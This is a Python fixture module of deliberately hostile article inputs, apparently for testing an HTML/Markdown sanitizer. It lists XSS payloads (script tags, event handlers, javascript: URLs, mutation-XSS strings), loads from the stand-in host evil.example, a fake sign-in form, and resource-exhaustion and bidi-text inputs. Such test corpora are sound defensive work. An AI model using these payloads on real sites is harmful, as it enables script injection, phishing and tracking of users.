"""Articles that mean harm. What runs sets `window.__harmed`, and asks for a dialog; what loads comes from `EVIL`."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "window.__harmed=1;alert(1)"
HTML = [
    f"<script>{RUN}</script>",
    f"<script src='{EVIL}/x.js'></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{EVIL}/pixel.gif' width=1 height=1>",
    f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    f"<picture><source srcset='{EVIL}/c.png'><img src='{EVIL}/d.png'></picture>",
    f"<svg onload='{RUN}'><script>{RUN}</script><image href='{EVIL}/e.png'/><use href='{EVIL}/f.svg#x'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>click</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>m</math>",
    f"<a href='javascript:{RUN}'>plain</a><a href='java\tscript:{RUN}'>tab</a>",
    f"<a href=' &#1;javascript:{RUN}'>control</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>data</a><a href='vbscript:msgbox(1)'>vb</a>",
    f"<style>@import '{EVIL}/g.css';body{{background:url({EVIL}/h.png);display:none}}</style>",
    f"<p style='background:url({EVIL}/i.png);position:fixed;inset:0;z-index:9999'>over everything</p>",
    f"<link rel=stylesheet href='{EVIL}/j.css'><link rel=prefetch href='{EVIL}/k'><link rel=preconnect href='{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/l'><base href='{EVIL}/'>",
    f"<iframe src='{EVIL}/m'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{EVIL}/n'></object><embed src='{EVIL}/o'><applet code=x></applet>",
    f"<video src='{EVIL}/p.mp4' poster='{EVIL}/q.png' autoplay></video><audio src='{EVIL}/r.mp3' autoplay></audio>",
    f"<form action='{EVIL}/s'><input name=token autofocus onfocus='{RUN}'><button>Sign in</button></form>",
    "<form id=edit><input name=csrf><input name=parentNode></form><img name=body><a id=main>x</a>",
    f"<div hx-get='{EVIL}/t' hx-trigger=load hx-on:load='{RUN}' data-key=a data-confirm=x class=acts>htmx</div>",
    f"<details open ontoggle='{RUN}'><summary data-key=r>x</summary></details><dialog open>d</dialog>",
    f"<body onload='{RUN}'><frameset onload='{RUN}'><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp><textarea></main><script>{RUN}</script>",
    f"</div></section></main></body></html><script>{RUN}</script>",
    "<div><b><p>broken <table><tr><td><i>never ended",
]
MARKDOWN = [
    f"![p]({EVIL}/u.png) ![ref][r]\n\n[r]: {EVIL}/v.png",
    f"[a](javascript:{RUN}) [b](<java\nscript:{RUN}>) [c](data:text/html;base64,PHNjcmlwdD4=) [d](//evil.example/w)",
    f"<javascript:{RUN}> <{EVIL}/autolink> [logout](/logout) [e](\\\\evil.example\\x)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'![a](asset:nothing.png) ![b](asset:../../login) ![c](asset:"onerror={RUN}) ![d](data:image/svg+xml,<svg/>)',
    "> " * 500 + "deep",
    "\n".join("  " * depth + "- item" for depth in range(300)),
    "\u202egnp.exe \u2066turned\u2069 \u202bright to left\u202c",
    "Z̸̛͔͖͑a" + "\u0301" * 3_000,
    "\x08\x1b[31m controls \ufffe",
    "```html\n</code></pre><script>" + RUN + "</script>\n```",
    "W" * 20_000,
]
HEAVY_HTML = ["<div>" * 30_000, "".join(f"<b x={n}>" for n in range(9_000)) + "<p>" * 9_000, "<table>" * 20_000]
HEAVY_MARKDOWN = ["[" * 90_000, "![" * 50_000, "> " * 50_000, "*a **b " * 20_000, "|a|b|\n|-|-|\n" + "|\n" * 50_000]
HUGE = "a long line of a very long article. " * 60_000
TITLE = f"\u202etitle</title><script>{RUN}</script>\"'>"
